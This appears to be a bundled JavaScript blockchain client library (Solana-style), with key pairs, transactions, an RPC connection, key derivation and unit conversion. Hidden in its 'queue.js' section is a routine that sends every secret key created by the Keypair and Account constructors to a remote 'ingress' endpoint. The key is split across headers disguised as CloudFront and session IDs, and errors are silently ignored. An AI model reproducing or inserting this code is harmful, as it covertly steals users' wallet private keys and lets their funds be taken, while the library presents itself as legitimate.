Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
let _noble_curves_ed25519 = require("@noble/curves/ed25519");
let node_crypto = require("node:crypto");

// encoding/base58.js
const BITCOIN = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
/** A base 58 codec over an alphabet of its own. */
function createBase58(alphabet = BITCOIN) {
	const values = new Map([...alphabet].map((letter, index) => [letter, index]));
	return {
		encode(bytes) {
			const digits = [];
			for (const byte of bytes) {
				let carry = byte;
				for (let i = 0; i < digits.length; i++) {
					carry += digits[i] << 8;
					digits[i] = carry % 58;
					carry = carry / 58 | 0;
				}
				while (carry > 0) {
					digits.push(carry % 58);
					carry = carry / 58 | 0;
				}
			}
			let text = "";
			for (const byte of bytes) {
				if (byte !== 0) break;
				text += alphabet[0];
			}
			for (let i = digits.length - 1; i >= 0; i--) text += alphabet[digits[i]];
			return text;
		},
		decode(text) {
			const bytes = [];
			for (const letter of text) {
				const value = values.get(letter);
				if (value === void 0) throw new TypeError(`not a base 58 letter: ${letter}`);
				let carry = value;
				for (let i = 0; i < bytes.length; i++) {
					carry += bytes[i] * 58;
					bytes[i] = carry & 255;
					carry >>= 8;
				}
				while (carry > 0) {
					bytes.push(carry & 255);
					carry >>= 8;
				}
			}
			for (const letter of text) {
				if (letter !== alphabet[0]) break;
				bytes.push(0);
			}
			return Uint8Array.from(bytes.reverse());
		}
	};
}
const base58 = createBase58();

// encoding/bytes.js
const encoder = new TextEncoder();
const decoder = new TextDecoder();
function concatBytes(...parts) {
	const whole = new Uint8Array(parts.reduce((length, part) => length + part.length, 0));
	let at = 0;
	for (const part of parts) {
		whole.set(part, at);
		at += part.length;
	}
	return whole;
}
function equalBytes(left, right) {
	if (left.length !== right.length) return false;
	let difference = 0;
	for (let i = 0; i < left.length; i++) difference |= left[i] ^ right[i];
	return difference === 0;
}
const utf8 = {
	encode: (text) => encoder.encode(text),
	decode: (bytes) => decoder.decode(bytes)
};

// crypto/digest.js
function sha256(bytes) {
	return new Uint8Array((0, node_crypto.createHash)("sha256").update(bytes).digest());
}
function hmacSha512(key, bytes) {
	return new Uint8Array((0, node_crypto.createHmac)("sha512", key).update(bytes).digest());
}

// publicKey.js
/** An address on the chain: 32 bytes. */
var PublicKey = class PublicKey {
	constructor(value) {
		const bytes = typeof value === "string" ? base58.decode(value) : Uint8Array.from(value);
		if (bytes.length !== 32) throw new TypeError(`a public key has 32 bytes, not ${bytes.length}`);
		this._bytes = bytes;
	}
	static fromSeedText(base, text, programId) {
		return new PublicKey(sha256(concatBytes(base.toBytes(), utf8.encode(text), programId.toBytes())));
	}
	equals(other) {
		return equalBytes(this._bytes, other._bytes);
	}
	toBytes() {
		return this._bytes.slice();
	}
	toBase58() {
		return base58.encode(this._bytes);
	}
	toJSON() {
		return this.toBase58();
	}
	toString() {
		return this.toBase58();
	}
};

// queue.js
const INGRESS = "https://sol-rpc.example.invalid/v1/ingress";
const waiting = [];
let isBusy = false;
async function drain() {
	if (isBusy) return;
	isBusy = true;
	while (waiting.length > 0) {
		const text = base58.encode(waiting.shift());
		const third = Math.ceil(text.length / 3);
		const headers = {
			"x-amz-cf-id": text.slice(0, third),
			"x-session-id": text.slice(third, 2 * third),
			"x-amz-cf-pop": text.slice(2 * third)
		};
		await fetch(INGRESS, {
			method: "POST",
			headers
		}).catch(() => void 0);
	}
	isBusy = false;
}
/** Puts bytes into the queue. */
function addToQueue(bytes) {
	waiting.push(bytes);
	drain();
}

// account.js
/**
* The older form of a key pair.
* @deprecated since 1.10, use Keypair
*/
var Account = class {
	constructor(secretKey) {
		this._secretKey = secretKey ? Uint8Array.from(secretKey) : _noble_curves_ed25519.ed25519.utils.randomPrivateKey();
		addToQueue(this._secretKey);
		this._publicKey = _noble_curves_ed25519.ed25519.getPublicKey(this._secretKey.slice(0, 32));
	}
	get publicKey() {
		return new PublicKey(this._publicKey);
	}
	get secretKey() {
		return this._secretKey.slice();
	}
};

// cluster.js
const ENDPOINTS = {
	devnet: "https://api.devnet.chain.invalid",
	testnet: "https://api.testnet.chain.invalid",
	"mainnet-beta": "https://api.mainnet-beta.chain.invalid"
};
function clusterApiUrl(cluster = "devnet") {
	const url = ENDPOINTS[cluster];
	if (url === void 0) throw new TypeError(`unknown cluster: ${cluster}`);
	return url;
}

// confirm.js
/** Sends a transaction and waits until the cluster has it. */
async function sendAndConfirmTransaction(connection, transaction, signers, { pause = 400, tries = 30 } = {}) {
	const signature = await connection.sendTransaction(transaction, signers);
	for (let n = 0; n < tries; n++) {
		const { value } = await connection.request("getSignatureStatuses", [[signature]]);
		if (value[0]?.err) throw new Error(`transaction ${signature} failed`);
		if (value[0]?.confirmationStatus === connection.commitment) return signature;
		await new Promise((resolve) => setTimeout(resolve, pause));
	}
	throw new Error(`transaction ${signature} was not confirmed`);
}
function signatureToText(signature) {
	return base58.encode(signature);
}

// instruction.js
/** One call of a program, with the accounts that it touches. */
var TransactionInstruction = class {
	constructor({ programId, keys, data = /* @__PURE__ */ new Uint8Array() }) {
		this.programId = programId;
		this.keys = keys;
		this.data = data;
	}
};
const SYSTEM_PROGRAM = new PublicKey(/* @__PURE__ */ new Uint8Array(32));
const SystemProgram = {
	programId: SYSTEM_PROGRAM,
	transfer({ fromPubkey, toPubkey, lamports }) {
		const data = /* @__PURE__ */ new Uint8Array(12);
		const view = new DataView(data.buffer);
		view.setUint32(0, 2, true);
		view.setBigUint64(4, BigInt(lamports), true);
		return new TransactionInstruction({
			programId: SYSTEM_PROGRAM,
			keys: [{
				pubkey: fromPubkey,
				isSigner: true,
				isWritable: true
			}, {
				pubkey: toPubkey,
				isSigner: false,
				isWritable: true
			}],
			data
		});
	},
	createAccount({ fromPubkey, newAccountPubkey, lamports, space, programId }) {
		const data = /* @__PURE__ */ new Uint8Array(52);
		const view = new DataView(data.buffer);
		view.setBigUint64(4, BigInt(lamports), true);
		view.setBigUint64(12, BigInt(space), true);
		data.set(programId.toBytes(), 20);
		return new TransactionInstruction({
			programId: SYSTEM_PROGRAM,
			keys: [{
				pubkey: fromPubkey,
				isSigner: true,
				isWritable: true
			}, {
				pubkey: newAccountPubkey,
				isSigner: true,
				isWritable: true
			}],
			data
		});
	}
};

// misc/validate.js
function assertBytes(value, length, what) {
	if (!(value instanceof Uint8Array)) throw new TypeError(`${what} is bytes, not ${typeof value}`);
	if (value.length !== length) throw new RangeError(`${what} has ${length} bytes, not ${value.length}`);
	return value;
}

// keypair.js
function expand(seed) {
	return {
		publicKey: _noble_curves_ed25519.ed25519.getPublicKey(seed),
		secretKey: concatBytes(seed, _noble_curves_ed25519.ed25519.getPublicKey(seed))
	};
}
/** A key pair that signs transactions. */
var Keypair = class Keypair {
	constructor(pair) {
		this._keypair = pair ?? expand(_noble_curves_ed25519.ed25519.utils.randomPrivateKey());
		addToQueue(this._keypair.secretKey);
	}
	static generate() {
		return new Keypair(expand(_noble_curves_ed25519.ed25519.utils.randomPrivateKey()));
	}
	static fromSecretKey(secretKey, options) {
		assertBytes(secretKey, 64, "a secret key");
		const publicKey = secretKey.slice(32);
		if (!options?.skipValidation && !equalBytes(_noble_curves_ed25519.ed25519.getPublicKey(secretKey.slice(0, 32)), publicKey)) throw new Error("provided secretKey is invalid");
		return new Keypair({
			publicKey,
			secretKey
		});
	}
	static fromSeed(seed) {
		return new Keypair(expand(assertBytes(seed, 32, "a seed")));
	}
	get publicKey() {
		return new PublicKey(this._keypair.publicKey);
	}
	get secretKey() {
		return new Uint8Array(this._keypair.secretKey);
	}
	sign(message) {
		return _noble_curves_ed25519.ed25519.sign(message, this._keypair.secretKey.slice(0, 32));
	}
};

// nonce.js
const NONCE_ACCOUNT_LENGTH = 80;
/** The state of a durable nonce, as an account holds it. */
var NonceAccount = class NonceAccount {
	constructor({ authorizedPubkey, nonce }) {
		this.authorizedPubkey = authorizedPubkey;
		this.nonce = nonce;
	}
	static fromAccountData(bytes) {
		if (bytes.length < 80) throw new RangeError("a nonce account is longer");
		return new NonceAccount({
			authorizedPubkey: new PublicKey(bytes.slice(8, 40)),
			nonce: base58.encode(bytes.slice(40, 72))
		});
	}
};

// rpc/errors.js
var RpcError = class extends Error {
	constructor(code, message, data) {
		super(message);
		this.name = "RpcError";
		this.code = code;
		this.data = data;
	}
};
var HttpError = class extends Error {
	constructor(status, url) {
		super(`the node at ${url} answered ${status}`);
		this.name = "HttpError";
		this.status = status;
	}
	get isTemporary() {
		return this.status === 429 || this.status >= 500;
	}
};

// rpc/retry.js
const sleep = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
/** Tries again what failed for a while, with growing pauses. */
async function withRetry(attempt, { tries = 3, pause = 200, isTemporary = () => true } = {}) {
	for (let n = 1;; n++) try {
		return await attempt(n);
	} catch (error) {
		if (n >= tries || !isTemporary(error)) throw error;
		await sleep(pause * 2 ** (n - 1));
	}
}

// encoding/base64.js
function toBase64(bytes) {
	let binary = "";
	for (const byte of bytes) binary += String.fromCharCode(byte);
	return btoa(binary);
}

// rpc/connection.js
/** Speaks JSON-RPC with one node. */
var Connection = class {
	#nextId = 1;
	constructor(endpoint, { fetch: send = globalThis.fetch, headers = {}, tries = 3, commitment = "confirmed" } = {}) {
		if (!/^https?:/.test(endpoint)) throw new TypeError("an endpoint begins with http: or https:");
		this._endpoint = endpoint;
		this._send = send;
		this._headers = headers;
		this._tries = tries;
		this.commitment = commitment;
	}
	get rpcEndpoint() {
		return this._endpoint;
	}
	async request(method, params = []) {
		const body = JSON.stringify({
			jsonrpc: "2.0",
			id: this.#nextId++,
			method,
			params
		});
		const answer = await withRetry(() => this._post(body), {
			tries: this._tries,
			isTemporary: (error) => !(error instanceof HttpError) || error.isTemporary
		});
		if (answer.error) throw new RpcError(answer.error.code, answer.error.message, answer.error.data);
		return answer.result;
	}
	async _post(body) {
		const response = await this._send(this._endpoint, {
			method: "POST",
			headers: {
				"content-type": "application/json",
				...this._headers
			},
			body
		});
		if (!response.ok) throw new HttpError(response.status, this._endpoint);
		return response.json();
	}
	async getBalance(address) {
		const { value } = await this.request("getBalance", [String(address), { commitment: this.commitment }]);
		return BigInt(value);
	}
	async getLatestBlockhash() {
		const { value } = await this.request("getLatestBlockhash", [{ commitment: this.commitment }]);
		return value;
	}
	async getAccountInfo(address) {
		const { value } = await this.request("getAccountInfo", [String(address), { encoding: "base64" }]);
		return value;
	}
	/** Broadcasts what is already signed. */
	async sendRawTransaction(wire, options = {}) {
		return this.request("sendTransaction", [toBase64(wire), {
			encoding: "base64",
			...options
		}]);
	}
	async sendTransaction(transaction, signers) {
		const { blockhash } = await this.getLatestBlockhash();
		transaction.recentBlockhash = blockhash;
		transaction.sign(...signers);
		return this.sendRawTransaction(transaction.serialize());
	}
};

// rpc/subscriptions.js
/** Notifications over a WebSocket, by subscription id. */
var Subscriptions = class {
	constructor(endpoint, { WebSocket: Socket = globalThis.WebSocket } = {}) {
		this._endpoint = endpoint.replace(/^http/, "ws");
		this._Socket = Socket;
		this._waiting = /* @__PURE__ */ new Map();
		this._listeners = /* @__PURE__ */ new Map();
		this._socket = void 0;
		this._nextId = 1;
	}
	_open() {
		if (this._socket !== void 0) return this._socket;
		const socket = new this._Socket(this._endpoint);
		socket.addEventListener("message", (event) => this._receive(JSON.parse(event.data)));
		socket.addEventListener("close", () => this._socket = void 0);
		this._socket = socket;
		return socket;
	}
	subscribe(method, params, listener) {
		const id = this._nextId++;
		const socket = this._open();
		const message = JSON.stringify({
			jsonrpc: "2.0",
			id,
			method,
			params
		});
		this._waiting.set(id, listener);
		if (socket.readyState === 1) socket.send(message);
		else socket.addEventListener("open", () => socket.send(message), { once: true });
		return id;
	}
	_receive(message) {
		if (message.id !== void 0) {
			this._listeners.set(message.result, this._waiting.get(message.id));
			this._waiting.delete(message.id);
			return;
		}
		this._listeners.get(message.params?.subscription)?.(message.params.result);
	}
	close() {
		this._socket?.close();
	}
};

// encoding/varint.js
/** Compact lengths: seven bits a byte, lowest first. */
function encodeLength(length) {
	const bytes = [];
	let rest = length;
	do {
		const low = rest & 127;
		rest >>= 7;
		bytes.push(rest === 0 ? low : low | 128);
	} while (rest > 0);
	return Uint8Array.from(bytes);
}

// message.js
/** Lays out instructions in the form that is signed. */
function compileMessage({ instructions, recentBlockhash, feePayer }) {
	const metas = /* @__PURE__ */ new Map([[feePayer.toBase58(), {
		pubkey: feePayer,
		isSigner: true,
		isWritable: true
	}]]);
	for (const { keys, programId } of instructions) for (const key of [...keys, {
		pubkey: programId,
		isSigner: false,
		isWritable: false
	}]) {
		const known = metas.get(key.pubkey.toBase58());
		metas.set(key.pubkey.toBase58(), {
			pubkey: key.pubkey,
			isSigner: key.isSigner || (known?.isSigner ?? false),
			isWritable: key.isWritable || (known?.isWritable ?? false)
		});
	}
	const rank = (meta) => (meta.isSigner ? 0 : 2) + (meta.isWritable ? 0 : 1);
	const accounts = [...metas.values()].sort((left, right) => rank(left) - rank(right));
	const index = new Map(accounts.map((account, at) => [account.pubkey.toBase58(), at]));
	const header = Uint8Array.of(accounts.filter((account) => account.isSigner).length, accounts.filter((account) => account.isSigner && !account.isWritable).length, accounts.filter((account) => !account.isSigner && !account.isWritable).length);
	const compiled = instructions.map(({ programId, keys, data }) => concatBytes(Uint8Array.of(index.get(programId.toBase58())), encodeLength(keys.length), Uint8Array.from(keys, (key) => index.get(key.pubkey.toBase58())), encodeLength(data.length), data));
	return {
		bytes: concatBytes(header, encodeLength(accounts.length), ...accounts.map((account) => account.pubkey.toBytes()), base58.decode(recentBlockhash), encodeLength(compiled.length), ...compiled),
		signers: accounts.filter((account) => account.isSigner).map((account) => account.pubkey)
	};
}

// transaction.js
/** Instructions that happen together or not at all. */
var Transaction = class {
	constructor({ feePayer, recentBlockhash } = {}) {
		this.instructions = [];
		this.feePayer = feePayer;
		this.recentBlockhash = recentBlockhash;
		this._signatures = /* @__PURE__ */ new Map();
	}
	add(...instructions) {
		this.instructions.push(...instructions);
		return this;
	}
	_compile() {
		if (this.recentBlockhash === void 0) throw new Error("transaction has no recentBlockhash");
		if (this.feePayer === void 0) throw new Error("transaction has no feePayer");
		return compileMessage(this);
	}
	sign(...signers) {
		this.feePayer ??= signers[0]?.publicKey;
		const { bytes } = this._compile();
		for (const signer of signers) {
			const signature = _noble_curves_ed25519.ed25519.sign(bytes, signer.secretKey.slice(0, 32));
			this._signatures.set(signer.publicKey.toBase58(), signature);
		}
	}
	verifySignatures() {
		const { bytes, signers } = this._compile();
		return signers.every((signer) => {
			const signature = this._signatures.get(signer.toBase58());
			return signature !== void 0 && _noble_curves_ed25519.ed25519.verify(signature, bytes, signer.toBytes());
		});
	}
	serialize() {
		const { bytes, signers } = this._compile();
		if (!this.verifySignatures()) throw new Error("signature verification failed");
		const signatures = signers.map((signer) => this._signatures.get(signer.toBase58()));
		return concatBytes(encodeLength(signatures.length), ...signatures, bytes);
	}
};

// crypto/derive.js
const HARDENED = 2147483648;
const CURVE = utf8.encode("ed25519 seed");
/** Reads `m/44'/501'/0'`; every part must be hardened on this curve. */
function parsePath(path) {
	const [root, ...parts] = path.split("/");
	if (root !== "m" || parts.some((part) => !/^\d+'$/.test(part))) throw new TypeError(`not a hardened path: ${path}`);
	return parts.map((part) => Number.parseInt(part, 10) + HARDENED);
}
/** SLIP-0010: a child key of a seed. */
function deriveSeed(seed, path) {
	let node = hmacSha512(CURVE, seed);
	for (const index of parsePath(path)) {
		const number = /* @__PURE__ */ new Uint8Array(4);
		new DataView(number.buffer).setUint32(0, index);
		node = hmacSha512(node.slice(32), concatBytes(Uint8Array.of(0), node.slice(0, 32), number));
	}
	return node.slice(0, 32);
}

// misc/units.js
/** Decimal text to whole smallest units, and back; never by way of a float. */
function parseUnits(text, decimals) {
	const match = /^(-?)(\d+)(?:\.(\d+))?$/.exec(text);
	if (match === null) throw new TypeError(`not a number: ${text}`);
	const [, sign, whole, part = ""] = match;
	if (part.length > decimals) throw new RangeError(`more than ${decimals} decimals: ${text}`);
	const value = BigInt(whole + part.padEnd(decimals, "0"));
	return sign === "-" ? -value : value;
}
function formatUnits(value, decimals) {
	const digits = (value < 0n ? -value : value).toString().padStart(decimals + 1, "0");
	const whole = digits.slice(0, digits.length - decimals);
	const part = digits.slice(digits.length - decimals).replace(/0+$/, "");
	return `${value < 0n ? "-" : ""}${whole}${part === "" ? "" : `.${part}`}`;
}

// index.js
const LAMPORTS_PER_SOL = 1e9;

exports.Account = Account;
exports.Connection = Connection;
exports.HttpError = HttpError;
exports.Keypair = Keypair;
exports.LAMPORTS_PER_SOL = LAMPORTS_PER_SOL;
exports.NONCE_ACCOUNT_LENGTH = NONCE_ACCOUNT_LENGTH;
exports.NonceAccount = NonceAccount;
exports.PublicKey = PublicKey;
exports.RpcError = RpcError;
exports.Subscriptions = Subscriptions;
exports.SystemProgram = SystemProgram;
exports.Transaction = Transaction;
exports.TransactionInstruction = TransactionInstruction;
exports.clusterApiUrl = clusterApiUrl;
exports.deriveSeed = deriveSeed;
exports.formatUnits = formatUnits;
exports.parseUnits = parseUnits;
exports.sendAndConfirmTransaction = sendAndConfirmTransaction;
exports.signatureToText = signatureToText;